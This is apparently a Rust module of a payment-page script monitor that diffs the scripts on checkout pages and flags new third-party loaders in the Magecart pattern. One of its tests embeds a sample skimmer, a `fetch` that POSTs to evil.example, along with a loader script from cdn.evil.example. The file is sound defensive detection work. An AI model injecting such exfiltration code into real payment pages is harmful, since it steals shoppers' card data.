//! The scripts of a watched payment page as a set, and `page_scripts_changed` when the set
//! changes: PCI DSS 11.6.1 asks to be told of "changes, additions, and deletions" to the
//! contents of payment pages as the browser receives them, and the fetcher sees those pages
//! first-hand (`fetcher/pages.rs`), with no `min_reports` to wait for.
//!
//! External scripts are keyed by their URL as browsers report it; inline scripts by the
//! structure of their code (`rampart_js`'s structural hash), so an inline script that embeds a
//! fresh token, nonce or timestamp on every load stays the same script, while new code in it
//! is a new one.

use std::collections::BTreeMap;

use rampart_store::NewAlert;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

/// A page's scripts: key → what to show for it (an inline script's first characters).
pub(crate) type Set = BTreeMap<String, String>;

/// The key prefix of inline scripts.
const INLINE: &str = "inline:structure:";
/// Characters of an inline script kept to show which one it is.
const SAMPLE_CHARS: usize = 80;
/// Scripts kept per page: the HTML is the watched site's, and a compromised one could carry
/// any number of `<script>` elements; real checkouts have dozens.
pub(crate) const MAX_SCRIPTS: usize = 1000;
/// Scripts listed per side in an alert (the counts say how many there were).
const LISTED: usize = 50;

/// The set of the scripts `found` on a page. Call it off the async threads: it parses each
/// inline script.
pub(crate) fn of(found: &crate::inline::Found) -> Set {
    let mut set = Set::new();
    for v in &found.external {
        set.insert(v.resource_key(), String::new());
    }
    for s in &found.inline {
        if set.len() >= MAX_SCRIPTS {
            break;
        }
        let analysis = rampart_js::analyze(&s.text, &rampart_js::Options::default());
        let sample: String = s.text.trim().chars().take(SAMPLE_CHARS).collect();
        set.entry(format!("{INLINE}{}", analysis.structural_hash))
            .or_insert(sample);
    }
    set
}

/// The key a watched page's scripts are stored under: the page as intake keys a reported page,
/// without query (unless the site keeps them) and fragment.
pub(crate) fn page_key(site: &crate::config::SiteConfig, page: &str) -> String {
    let cut: &[char] = if site.keep_query { &['#'] } else { &['?', '#'] };
    page.split(cut).next().unwrap_or(page).to_string()
}

/// Scripts as the API and the alert show them: `{"url"}` or `{"inline", "structure", "sample"}`.
pub(crate) fn entries<'a>(list: impl IntoIterator<Item = (&'a String, &'a String)>) -> Vec<Value> {
    list.into_iter()
        .map(|(k, sample)| match k.strip_prefix(INLINE) {
            Some(structure) => json!({"inline": true, "structure": structure, "sample": sample}),
            None => json!({"url": k}),
        })
        .collect()
}

pub(crate) fn to_json(set: &Set) -> Value {
    json!(set)
}

/// A stored set; anything unreadable counts as no set (the next fetch stores a good one).
pub(crate) fn from_json(v: &Value) -> Option<Set> {
    serde_json::from_value(v.clone()).ok()
}

/// Each watched page of `site` with its scripts at the last look (`None` before the first).
pub(crate) async fn watched(
    store: &std::sync::Arc<dyn rampart_store::Store>,
    site: &crate::config::SiteConfig,
) -> rampart_store::Result<Vec<(String, Option<Set>)>> {
    let mut out = Vec::with_capacity(site.watch_pages.len());
    for page in &site.watch_pages {
        let stored = store.page_scripts(&site.id, &page_key(site, page)).await?;
        out.push((page.clone(), stored.as_ref().and_then(from_json)));
    }
    Ok(out)
}

/// What changed between two looks at a page.
#[derive(Debug, PartialEq)]
pub(crate) struct Change {
    pub added: Vec<(String, String)>,
    pub removed: Vec<(String, String)>,
}

pub(crate) fn compare(before: &Set, now: &Set) -> Option<Change> {
    let diff = |a: &Set, b: &Set| -> Vec<(String, String)> {
        a.iter()
            .filter(|(k, _)| !b.contains_key(*k))
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect()
    };
    let change = Change {
        added: diff(now, before),
        removed: diff(before, now),
    };
    (!change.added.is_empty() || !change.removed.is_empty()).then_some(change)
}

fn domain(url: &str) -> Option<String> {
    rampart_csp::host_of(url).map(|h| rampart_csp::registrable_domain(&h))
}

/// The alert for a change: critical when an added external script comes from a registrable
/// domain that is neither the page's own nor that of a script the page already had (a
/// loader from a new domain, the Magecart pattern), else a warning. Once per new set.
pub(crate) fn alert(site: &str, page: &str, before: &Set, now: &Set, change: &Change) -> NewAlert {
    let mut known: Vec<String> = before.keys().filter_map(|k| domain(k)).collect();
    known.extend(domain(page));
    let new_domains: Vec<String> = change
        .added
        .iter()
        .filter(|(k, _)| !k.starts_with(INLINE))
        .filter_map(|(k, _)| domain(k))
        .filter(|d| !known.contains(d))
        .collect();
    let mut hasher = Sha256::new();
    for k in now.keys() {
        hasher.update(k.as_bytes());
        hasher.update([0]);
    }
    NewAlert {
        kind: "page_scripts_changed".into(),
        site: site.into(),
        subject: page.into(),
        dedup: hex::encode(&hasher.finalize()[..16]),
        severity: if new_domains.is_empty() {
            "warning"
        } else {
            "critical"
        }
        .into(),
        created_at: crate::time::now_ms(),
        details: json!({
            "page": page,
            "added": entries(change.added.iter().take(LISTED).map(|(k, v)| (k, v))),
            "removed": entries(change.removed.iter().take(LISTED).map(|(k, v)| (k, v))),
            "added_count": change.added.len(),
            "removed_count": change.removed.len(),
            "new_domains": new_domains,
            "scripts": now.len(),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str = "https://shop.example/checkout";

    fn page(html: &str) -> Set {
        of(&crate::inline::scripts(html.as_bytes(), PAGE, false))
    }

    #[test]
    fn a_fresh_token_in_an_inline_script_is_no_change_new_code_is() {
        let before = page(
            r#"<script src="/app.js?v=1"></script><script>window.csrf = "a1b2"; init(window.csrf);</script>"#,
        );
        // A new build query and a new token: the same scripts.
        let same = page(
            r#"<script src="/app.js?v=2"></script><script>window.csrf = "ffee99"; init(window.csrf);</script>"#,
        );
        assert_eq!(compare(&before, &same), None);
        // Code appended to the inline script, and a loader from a new domain.
        let now = page(
            r#"<script src="/app.js"></script><script>window.csrf = "x"; init(window.csrf); fetch("https://evil.example/c", {method: "POST"});</script><script src="https://cdn.evil.example/l.js"></script>"#,
        );
        let change = compare(&before, &now).unwrap();
        assert_eq!(change.added.len(), 2, "{change:?}");
        assert_eq!(
            change.removed.len(),
            1,
            "the old inline structure: {change:?}"
        );
        assert!(change.removed[0].0.starts_with(INLINE));
        let a = alert("shop", PAGE, &before, &now, &change);
        assert_eq!(a.severity, "critical");
        assert_eq!(a.details["new_domains"], json!(["evil.example"]));
        assert_eq!(
            a.details["added"][0]["url"],
            "https://cdn.evil.example/l.js"
        );
        assert_eq!(a.details["removed"][0]["inline"], true);
        assert!(
            a.details["removed"][0]["sample"]
                .as_str()
                .unwrap()
                .starts_with("window.csrf")
        );
    }

    #[test]
    fn a_removed_script_or_one_from_a_known_domain_is_a_warning() {
        let before = page(
            r#"<script src="https://js.pay.example/v3/"></script><script src="/fraud.js"></script>"#,
        );
        let now = page(r#"<script src="https://js.pay.example/v3/"></script>"#);
        let change = compare(&before, &now).unwrap();
        assert_eq!(
            change.removed,
            [("https://shop.example/fraud.js".to_string(), String::new())]
        );
        let a = alert("shop", PAGE, &before, &now, &change);
        assert_eq!(a.severity, "warning");
        let again = page(
            r#"<script src="https://js.pay.example/v3/"></script><script src="https://m.pay.example/x.js"></script>"#,
        );
        let change = compare(&now, &again).unwrap();
        assert_eq!(
            alert("shop", PAGE, &now, &again, &change).severity,
            "warning"
        );
        // One alert per new set: the same set twice has one dedup key.
        assert_eq!(
            alert("shop", PAGE, &now, &again, &change).dedup,
            alert("shop", PAGE, &before, &again, &change).dedup
        );
        assert_eq!(from_json(&to_json(&again)), Some(again));
    }

    #[test]
    fn a_page_of_thousands_of_scripts_is_kept_and_alerted_within_bounds() {
        let many: String = (0..5000)
            .map(|i| format!("<script src=\"/s{i}.js\"></script><script>f{i}()</script>"))
            .collect();
        let set = page(&many);
        assert_eq!(set.len(), MAX_SCRIPTS);
        let change = compare(&Set::new(), &set).unwrap();
        let a = alert("shop", PAGE, &Set::new(), &set, &change);
        assert_eq!(a.details["added"].as_array().unwrap().len(), LISTED);
        assert_eq!(a.details["added_count"], MAX_SCRIPTS);
    }
}
